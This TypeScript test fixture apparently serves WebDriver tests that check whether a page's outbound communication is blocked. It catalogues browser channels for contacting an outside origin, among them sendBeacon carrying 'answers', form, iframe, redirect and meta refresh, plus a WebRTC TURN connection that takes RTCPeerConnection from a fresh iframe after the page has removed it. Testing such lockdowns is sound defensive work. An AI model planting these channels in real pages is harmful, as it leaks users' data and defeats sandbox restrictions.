/**
 * Ways to talk, each planted as a fault of the page itself would be. They run in the page, and are
 * arrow functions, because WebDriver takes no others.
 */

export type Attack = (origin: string) => unknown;

export const attacks: Readonly<Record<string, Attack>> = {
  fetch: (origin) => fetch(`${origin}/fetch`).catch(() => null),
  request: (origin) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${origin}/request`);
    request.send();
  },
  beacon: (origin) => navigator.sendBeacon(`${origin}/beacon`, 'answers'),
  socket: (origin) => void new WebSocket(origin.replace('http', 'ws')),
  events: (origin) => void new EventSource(`${origin}/events`),
  image: (origin) => {
    new Image().src = `${origin}/image`;
  },
  form: (origin) => {
    const form = Object.assign(document.createElement('form'), { action: `${origin}/form` });
    document.body.append(form);
    form.submit();
  },
  link: (origin) => {
    for (const rel of ['prefetch', 'preload', 'stylesheet', 'icon', 'preconnect', 'manifest'])
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel,
          href: `${origin}/${rel}`,
          as: 'image',
        }),
      );
  },
  frame: (origin) =>
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: `${origin}/frame` }),
    ),
  window: (origin) => void window.open(`${origin}/window`),
  address: (origin) => window.location.assign(`${origin}/address`),
  refresh: (origin) =>
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${origin}/refresh`,
      }),
    ),
  /** A frame has what the page has taken out of its own window. */
  peer: (origin) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
    const urls = `${origin.replace('http://', 'turn:')}?transport=tcp`;
    const peer = new Peer({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
    peer.createDataChannel('x');
    // Not awaited: in a frame that is gone it never ends.
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
};
